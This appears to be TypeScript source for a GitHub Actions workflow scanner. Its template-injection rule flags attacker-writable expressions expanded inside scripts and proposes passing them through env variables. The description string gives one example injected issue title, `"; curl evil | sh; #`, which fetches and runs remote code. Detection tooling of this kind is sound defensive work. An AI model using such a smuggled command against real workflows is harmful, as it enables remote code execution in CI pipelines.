import { codeSinks, lineWithin } from '../sinks.js';
import { expressionSources, templateExpressions, worst, type Confidence, type TaintScope, type TaintSource } from '../taint.js';
import { injectionSeverity, type Exposure } from '../triggers.js';
import { stepScope } from '../workflow-model.js';
import type { RawFinding, Rule, Severity } from './rule.js';

/** The finding for one expression in code, or undefined when nothing an outsider writes reaches it. */
export function judgeExpression(
  source: string,
  scope: TaintScope,
  exposure: Exposure,
): { severity: Severity; confidence: Confidence; origin: TaintSource } | undefined {
  const parsed = templateExpressions(`\${{ ${source} }}`)[0]?.parsed;
  if (!parsed) return undefined;
  const origin = worst(expressionSources(parsed, scope));
  if (!origin || origin.taint !== 'free') return undefined;
  const severity = injectionSeverity(origin.taint, exposure);
  return severity ? { severity, confidence: origin.confidence, origin } : undefined;
}

/** An environment variable name for an expression, for the fix text. */
function envName(expression: string): string {
  return (
    expression
      .replace(/^.*\.(?=[\w-]+$)/, '')
      .replace(/[^\w]+/g, '_')
      .replace(/^_+|_+$/g, '')
      .slice(0, 30)
      .toUpperCase() || 'VALUE'
  );
}

/** `${{ }}` whose value an outsider writes, expanded inside code: run: scripts, github-script, script inputs of well-known actions. */
export const templateInjection: Rule = {
  id: 'template-injection',
  title: 'Outsider-controlled expression expanded inside code',
  severity: 'high',
  confidence: 'high',
  category: 'security',
  description:
    'Expressions are substituted into the script text before the shell (or JavaScript, or the remote shell) parses it, so an issue title such as `"; curl evil | sh; #` becomes code. Only values an outsider writes freely are reported (titles, bodies, branch names, commit messages, comments), followed through static env and matrix values; numbers, SHAs, booleans and secrets cannot carry code.',
  fix: 'Move the expression into `env:` and reference the variable (`"$TITLE"`) in the script.',
  appliesTo: ['workflow', 'action'],
  check(model) {
    const out: RawFinding[] = [];
    for (const job of model.jobs) {
      for (const step of job.steps) {
        const sinks = codeSinks(step);
        if (sinks.length === 0) continue;
        const scope = stepScope(model, job, step);
        for (const sink of sinks) {
          for (const e of templateExpressions(sink.value)) {
            if (!e.parsed) continue;
            const verdict = judgeExpression(e.source, scope, model.exposure);
            if (!verdict) continue;
            const name = envName(e.source);
            out.push({
              message: `\${{ ${e.source} }} carries ${verdict.origin.path}, which an outsider writes, into ${sink.where}${model.exposure === 'privileged' ? ` of a workflow triggered by ${[...model.triggers.keys()].join(', ')}` : ''}`,
              line: lineWithin(model, sink.node, sink.value, e.start),
              severity: verdict.severity,
              confidence: verdict.confidence,
              fix: `Pass it through the environment: \`env: { ${name}: \${{ ${e.source} }} }\` and use "$${name}" in the script.`,
            });
          }
        }
      }
    }
    return out;
  },
};
